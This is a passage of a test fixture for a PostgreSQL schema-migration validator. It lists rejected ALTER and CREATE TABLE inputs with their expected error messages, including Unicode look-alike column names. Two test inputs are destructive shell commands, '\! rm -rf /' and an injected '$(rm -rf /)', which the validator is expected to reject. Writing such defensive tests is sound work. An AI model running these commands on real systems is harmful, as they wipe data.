ALTER TABLE ALL IN TABLESPACE pg_default SET TABLESPACE evil
--@@
-- why: set schema
-- expect: ALTER TABLE ... SET SCHEMA is not accepted
ALTER TABLE orders SET SCHEMA evil
--@@
-- why: disable all triggers
-- expect: DISABLE TRIGGER ALL is not accepted
ALTER TABLE orders DISABLE TRIGGER ALL
--@@
-- why: enable a trigger
-- expect: ENABLE TRIGGER is not accepted
ALTER TABLE orders ENABLE TRIGGER t
--@@
-- why: set unlogged
-- expect: SET UNLOGGED is not accepted
ALTER TABLE orders SET UNLOGGED
--@@
-- why: set logged
-- expect: SET LOGGED is not accepted
ALTER TABLE orders SET LOGGED
--@@
-- why: attach a partition
-- expect: ATTACH PARTITION is not accepted
ALTER TABLE orders ATTACH PARTITION orders_2026 FOR VALUES FROM (1) TO (2)
--@@
-- why: detach a partition
-- expect: DETACH PARTITION is not accepted
ALTER TABLE orders DETACH PARTITION orders_2026
--@@
-- why: move to another tablespace
-- expect: SET TABLESPACE is not accepted
ALTER TABLE orders SET TABLESPACE evil
--@@
-- why: storage parameters
-- expect: SET (...) is not accepted
ALTER TABLE orders SET (fillfactor = 10)
--@@
-- why: inherit from another table
-- expect: INHERIT is not accepted
ALTER TABLE orders INHERIT other
--@@
-- why: cluster on an index
-- expect: CLUSTER ON is not accepted
ALTER TABLE orders CLUSTER ON orders_pkey
--@@
-- why: replica identity
-- expect: REPLICA IDENTITY is not accepted
ALTER TABLE orders REPLICA IDENTITY FULL
--@@
-- why: row level security
-- expect: ENABLE ROW LEVEL SECURITY is not accepted
ALTER TABLE orders ENABLE ROW LEVEL SECURITY
--@@
-- why: disable a rule
-- expect: DISABLE RULE is not accepted
ALTER TABLE orders DISABLE RULE r
--@@
-- why: statistics target
-- expect: ALTER COLUMN ... SET STATISTICS is not accepted
ALTER TABLE orders ALTER COLUMN qty SET STATISTICS 10000
--@@
-- why: column storage
-- expect: ALTER COLUMN ... SET STORAGE is not accepted
ALTER TABLE orders ALTER COLUMN note SET STORAGE EXTERNAL
--@@
-- why: column compression
-- expect: ALTER COLUMN ... SET COMPRESSION is not accepted
ALTER TABLE orders ALTER COLUMN note SET COMPRESSION pglz
--@@
-- why: column options
-- expect: ALTER COLUMN ... SET (...) is not accepted
ALTER TABLE orders ALTER COLUMN qty SET (n_distinct = 1)
--@@
-- why: make a column an identity
-- expect: ADD GENERATED AS IDENTITY is not accepted
ALTER TABLE orders ALTER COLUMN id ADD GENERATED ALWAYS AS IDENTITY
--@@
-- why: alter a view
-- expect: ALTER VIEW is not accepted
ALTER VIEW orders_view ALTER COLUMN a SET DEFAULT 1
--@@
-- why: alter an index
-- expect: ALTER INDEX is not accepted
ALTER INDEX orders_pkey SET (fillfactor = 10)
--@@
-- why: alter a sequence
-- expect: ALTER SEQUENCE is not accepted
ALTER SEQUENCE orders_id_seq RESTART WITH 1
--@@
-- why: alter a materialized view
-- expect: ALTER MATERIALIZED VIEW is not accepted
ALTER MATERIALIZED VIEW mv SET TABLESPACE evil
--@@
-- why: alter a foreign table
-- expect: ALTER FOREIGN TABLE is not accepted
ALTER FOREIGN TABLE ft ADD COLUMN a int
--@@
-- why: ADD COLUMN IF NOT EXISTS
-- expect: ADD COLUMN IF NOT EXISTS is not accepted
ALTER TABLE orders ADD COLUMN IF NOT EXISTS coupon text
--@@
-- why: a collation on a new column
-- expect: COLLATE on column "a" is not accepted
ALTER TABLE orders ADD COLUMN a text COLLATE "C"
--@@
-- why: compression on a new column
-- expect: COMPRESSION on column "a" is not accepted
ALTER TABLE orders ADD COLUMN a text COMPRESSION pglz
--@@
-- why: typed table
-- expect: OF is not accepted
ALTER TABLE orders OF some_type
--@@
-- why: forced row security
-- expect: FORCE ROW LEVEL SECURITY is not accepted
ALTER TABLE orders FORCE ROW LEVEL SECURITY
--@@
-- why: drop a column with CASCADE after a good command
-- expect: DROP COLUMN is not accepted
ALTER TABLE orders ALTER COLUMN qty TYPE bigint, DROP COLUMN note CASCADE
--@@
-- why: create table as select
-- expect: CREATE TABLE AS is not accepted
CREATE TABLE events AS SELECT * FROM orders
--@@
-- why: temporary table
-- expect: CREATE TEMP TABLE is not accepted
CREATE TEMP TABLE events (id bigint)
--@@
-- why: unlogged table
-- expect: CREATE UNLOGGED TABLE is not accepted
CREATE UNLOGGED TABLE events (id bigint)
--@@
-- why: LIKE another table
-- expect: (LIKE ...) is not accepted
CREATE TABLE events (LIKE orders INCLUDING ALL)
--@@
-- why: INHERITS
-- expect: CREATE TABLE ... INHERITS is not accepted
CREATE TABLE events (id bigint) INHERITS (orders)
--@@
-- why: partition of
-- expect: CREATE TABLE ... PARTITION OF is not accepted
CREATE TABLE events PARTITION OF orders FOR VALUES IN (1)
--@@
-- why: partition by
-- expect: CREATE TABLE ... PARTITION BY is not accepted
CREATE TABLE events (id bigint) PARTITION BY RANGE (id)
--@@
-- why: if not exists
-- expect: CREATE TABLE IF NOT EXISTS is not accepted
CREATE TABLE IF NOT EXISTS events (id bigint)
--@@
-- why: storage parameters
-- expect: CREATE TABLE ... WITH (...) is not accepted
CREATE TABLE events (id bigint) WITH (fillfactor = 10)
--@@
-- why: tablespace
-- expect: CREATE TABLE ... TABLESPACE is not accepted
CREATE TABLE events (id bigint) TABLESPACE evil
--@@
-- why: no columns
-- expect: table "events" would have no columns
CREATE TABLE events ()
--@@
-- why: a column twice
-- expect: column "a" appears twice in table "events"
CREATE TABLE events (a int, a text)
--@@
-- why: a column default
-- expect: DEFAULT on column "id" is not accepted
CREATE TABLE events (id bigint DEFAULT 1)
--@@
-- why: serial
-- expect: serial creates a sequence and a default
CREATE TABLE events (id serial)
--@@
-- why: a system column name
-- expect: column name "ctid" is a PostgreSQL system column
CREATE TABLE events (ctid int)
--@@
-- why: another system column name
-- expect: column name "xmin" is a PostgreSQL system column
CREATE TABLE events (id int, xmin bigint)
--@@
-- why: SQLite's row id as a new column would shadow it
-- expect: column name "rowid" is a SQLite system column
ALTER TABLE events ADD COLUMN rowid bigint
--@@
-- why: oid, PostgreSQL's (and SQLite's) other row id
-- expect: column name "oid" is a PostgreSQL system column
ALTER TABLE events ADD COLUMN oid bigint
--@@
-- why: a catalog table's name
-- expect: table "pg_class" is not one this pipeline may change
CREATE TABLE pg_class (oid int)
--@@
-- why: on commit drop
-- expect: CREATE TEMP TABLE is not accepted
CREATE TEMP TABLE events (id int) ON COMMIT DROP
--@@
-- why: typed table
-- expect: CREATE TABLE ... OF type is not accepted
CREATE TABLE events OF some_type
--@@
-- why: access method
-- expect: CREATE TABLE ... USING is not accepted
CREATE TABLE events (id int) USING heap
--@@
-- why: look-alike columns among the new ones
-- expect: looks like existing column note
CREATE TABLE events (note text, nоte text)
--@@
-- why: array column
-- expect: array type for column "a" is not accepted
CREATE TABLE events (a int[])
--@@
-- why: collation
-- expect: COLLATE on column "b" is not accepted
CREATE TABLE events (a int, b text COLLATE "C")
--@@
-- why: primary key column
-- expect: PRIMARY KEY on column "id" is not accepted
CREATE TABLE events (id bigint PRIMARY KEY)
--@@
-- why: table UNIQUE constraint
-- expect: table constraint UNIQUE in CREATE TABLE events is not accepted
CREATE TABLE events (id bigint, UNIQUE (id))
--@@
-- why: table CHECK constraint
-- expect: table constraint CHECK
CREATE TABLE events (id bigint, CONSTRAINT c CHECK (id > 0))
--@@
-- why: foreign key to the other table
-- expect: REFERENCES on column "order_id"
CREATE TABLE events (order_id bigint REFERENCES orders (id))
--@@
-- why: quoted column in capitals
-- expect: column name "Id" is not in normal form
CREATE TABLE events ("Id" bigint)
--@@
-- why: select into
-- expect: SELECT INTO is not accepted
SELECT 1 AS id INTO TABLE events
--@@
-- why: NULL and NOT NULL on one column
-- expect: column "id" says both NULL and NOT NULL
CREATE TABLE events (id bigint NULL NOT NULL)
--@@
-- why: a generated column
-- expect: GENERATED ALWAYS AS on column "b"
CREATE TABLE events (a int, b int GENERATED ALWAYS AS (a + 1) STORED)
--@@
-- why: only comments: nothing to do
-- expect: no statement
/* nothing here */
--@@
-- why: a lone semicolon
-- expect: no statement
;
--@@
-- why: many semicolons
-- expect: no statement
;;;
;
--@@
-- why: words that are not SQL
-- expect: syntax error
please add a column called coupon to orders
--@@
-- why: a statement cut short
-- expect: syntax error
ALTER TABLE
--@@
-- why: ALTER TABLE without a sub-command
-- expect: syntax error
ALTER TABLE orders
--@@
-- why: MySQL syntax
-- expect: syntax error
ALTER TABLE orders ADD COLUMN a INT(11) AFTER qty
--@@
-- why: a JSON object instead of SQL
-- expect: syntax error
{"op": "drop_table", "table": "orders"}
--@@
-- why: a psql meta-command
-- expect: syntax error
\! rm -rf /
--@@
-- why: shell injection text
-- expect: syntax error
orders; $(rm -rf /)
--@@
-- why: integer array
-- expect: array type for column "a" is not accepted
ALTER TABLE orders ADD COLUMN a int[]
--@@
-- why: text ARRAY
-- expect: array type for column "a"
ALTER TABLE orders ADD COLUMN a text ARRAY
--@@
-- why: jsonb array
-- expect: array type for column "a"
ALTER TABLE orders ADD COLUMN a jsonb[]
--@@
-- why: serial
-- expect: serial creates a sequence and a default; use integer
ALTER TABLE orders ADD COLUMN a serial
--@@
-- why: bigserial
-- expect: bigserial creates a sequence and a default; use bigint
ALTER TABLE orders ADD COLUMN a bigserial
--@@
-- why: smallserial
-- expect: smallserial creates a sequence
ALTER TABLE orders ADD COLUMN a smallserial
--@@
-- why: a domain
-- expect: type "positive" for column "a" is not accepted
ALTER TABLE orders ADD COLUMN a positive
--@@
-- why: a user type in a schema
-- expect: type "public.mood" for column "a" is not accepted: only built-in types are
ALTER TABLE orders ADD COLUMN a public.mood
--@@
-- why: char(n)
-- expect: char(n) pads values with blanks; use varchar(n)
ALTER TABLE orders ADD COLUMN a char(10)
--@@
-- why: character(n)
-- expect: char(n) pads values
ALTER TABLE orders ADD COLUMN a character(5)
--@@
-- why: money
-- expect: type "money" for column "a" is not accepted
ALTER TABLE orders ADD COLUMN a money
--@@
-- why: interval
-- expect: type "interval" for column "a"
ALTER TABLE orders ADD COLUMN a interval
--@@
-- why: uuid
-- expect: type "uuid" for column "a"
ALTER TABLE orders ADD COLUMN a uuid
--@@
-- why: bytea
-- expect: type "bytea" for column "a"
ALTER TABLE orders ADD COLUMN a bytea
--@@
-- why: real
-- expect: real (float4) is not a pipemend type; use double precision
ALTER TABLE orders ADD COLUMN a real
--@@
-- why: float(10) is real
-- expect: real (float4)
ALTER TABLE orders ADD COLUMN a float(10)
--@@
-- why: numeric with precision and scale
-- expect: numeric(p,s) for column "a" is not accepted: it rounds values
ALTER TABLE orders ADD COLUMN a numeric(10,2)
--@@
-- why: decimal with precision
-- expect: numeric(p,s) for column "a"
ALTER TABLE orders ADD COLUMN a decimal(12)
--@@
-- why: varchar without length
-- expect: varchar without a length for column "a" is not accepted
ALTER TABLE orders ADD COLUMN a varchar
--@@
-- why: varchar(0)
-- expect: varchar(0) for column "a" is out of range
ALTER TABLE orders ADD COLUMN a varchar(0)
--@@
-- why: varchar beyond PostgreSQL's limit
-- expect: varchar(10485761) for column "a" is out of range
ALTER TABLE orders ADD COLUMN a varchar(10485761)
--@@
-- why: timestamp precision
-- expect: timestamp(p) for column "a" is not accepted
ALTER TABLE orders ADD COLUMN a timestamp(3)
--@@
-- why: timestamptz precision
-- expect: timestamptz(p) for column "a"
ALTER TABLE orders ADD COLUMN a timestamptz(0)
--@@
-- why: time of day
-- expect: type "time" for column "a"
ALTER TABLE orders ADD COLUMN a time
--@@
-- why: time with zone
-- expect: type "timetz" for column "a"
ALTER TABLE orders ADD COLUMN a time with time zone
--@@
-- why: xml
-- expect: type "xml" for column "a"
ALTER TABLE orders ADD COLUMN a xml
--@@
-- why: a type name in the wrong case, quoted
-- expect: type "INT4" for column "a"
ALTER TABLE orders ADD COLUMN a "INT4"
--@@
-- why: oid
-- expect: type "oid" for column "a"
ALTER TABLE orders ADD COLUMN a pg_catalog.oid
--@@
-- why: regclass
-- expect: type "regclass" for column "a"
ALTER TABLE orders ADD COLUMN a regclass
--@@
-- why: bit string
-- expect: type "bit" for column "a"
ALTER TABLE orders ADD COLUMN a bit(8)
--@@
-- why: inet
-- expect: type "inet" for column "a"
ALTER TABLE orders ADD COLUMN a inet
--@@
-- why: the keyword integer quoted is not a type name
-- expect: type "integer" for column "a"
ALTER TABLE orders ADD COLUMN a "integer"
--@@
-- why: a built-in name in a user schema
-- expect: type "evil.text" for column "a" is not accepted
ALTER TABLE orders ADD COLUMN a evil.text
--@@
-- why: a range type
-- expect: type "int4range" for column "a"
ALTER TABLE orders ADD COLUMN a int4range
--@@
-- why: the internal char type
-- expect: type "char" for column "a"
ALTER TABLE orders ADD COLUMN a "char"
--@@
-- why: float4 spelt out
-- expect: real (float4)
ALTER TABLE orders ADD COLUMN a pg_catalog.float4
--@@
-- why: SETOF
-- expect: SETOF type for column "a" is not accepted
ALTER TABLE orders ADD COLUMN a SETOF int
--@@
-- why: widen to an array
-- expect: array type for column "qty"
ALTER TABLE orders ALTER COLUMN qty TYPE bigint[]
--@@
-- why: widen to a domain
-- expect: type "email_address" for column "email"
ALTER TABLE orders ALTER COLUMN email TYPE email_address
--@@
-- why: widen to varchar without a length
-- expect: varchar without a length for column "email"
ALTER TABLE orders ALTER COLUMN email TYPE character varying
--@@
-- why: a type with a typmod it does not take
-- expect: type modifiers on int4 for column "a"
ALTER TABLE orders ADD COLUMN a int4(11)
--@@
-- why: add a column that exists
-- expect: column orders.email already exists as varchar(64)
ALTER TABLE orders ADD COLUMN email text
--@@
-- why: add a column that exists, another type
-- expect: column orders.note already exists as text
ALTER TABLE orders ADD COLUMN note varchar(10)
--@@
-- why: the same new column twice
-- expect: op 2 of 2: column orders.a is added by op 1 of this proposal
ALTER TABLE orders ADD COLUMN a int, ADD COLUMN a text
--@@
-- why: add then widen in one proposal
-- expect: column orders.a is added by op 1
ALTER TABLE orders ADD COLUMN a int, ALTER COLUMN a TYPE bigint
--@@
-- why: the same widening twice
-- expect: op 2 of 2: widen_column on orders.qty repeats op 1
ALTER TABLE orders ALTER COLUMN qty TYPE bigint, ALTER COLUMN qty TYPE numeric
--@@
-- why: drop not null on a nullable column
-- expect: orders.note is already nullable; nothing to drop
ALTER TABLE orders ALTER COLUMN note DROP NOT NULL
--@@
-- why: drop not null on a missing column
-- expect: column orders.nope does not exist
ALTER TABLE orders ALTER COLUMN nope DROP NOT NULL
--@@
-- why: widen a missing column
-- expect: column orders.quantity does not exist
ALTER TABLE orders ALTER COLUMN quantity TYPE bigint
--@@
-- why: a system column as a new column
-- expect: column name "ctid" is a PostgreSQL system column
ALTER TABLE orders ADD COLUMN ctid int
--@@
-- why: another system column
-- expect: column name "xmax" is a PostgreSQL system column
ALTER TABLE orders ADD COLUMN xmax bigint
--@@
-- why: drop not null twice
-- expect: drop_not_null on orders.email repeats op 1
ALTER TABLE orders ALTER COLUMN email DROP NOT NULL, ALTER COLUMN email DROP NOT NULL
--@@
-- why: two new columns in one ALTER that look alike (Cyrillic о, е in the second)
-- expect: new column orders.соdе2 looks like new column code2 of op 1 of this proposal
ALTER TABLE orders ADD COLUMN code2 text, ADD COLUMN соdе2 text
--@@
-- why: the look-alike first, the plain one second
-- expect: looks like new column соdе2 of op 1
ALTER TABLE orders ADD COLUMN соdе2 text, ADD COLUMN code2 text
--@@
-- why: a digit one for a letter l among the new columns
-- expect: looks like new column coupon_l of op 1
ALTER TABLE orders ADD COLUMN coupon_l text, ADD COLUMN coupon_1 text
--@@
-- why: precomposed é beside e + combining acute, both new
-- expect: looks like new column café of op 1
ALTER TABLE orders ADD COLUMN café text, ADD COLUMN "café" text
--@@
-- why: a Greek look-alike of an existing column through a variation selector it cannot keep
-- expect: is not in normal form
ALTER TABLE orders ADD COLUMN "note︀" text
--@@
-- why: a new column of a tag character alone
-- expect: is not in normal form
ALTER TABLE orders ADD COLUMN "󠀁" text
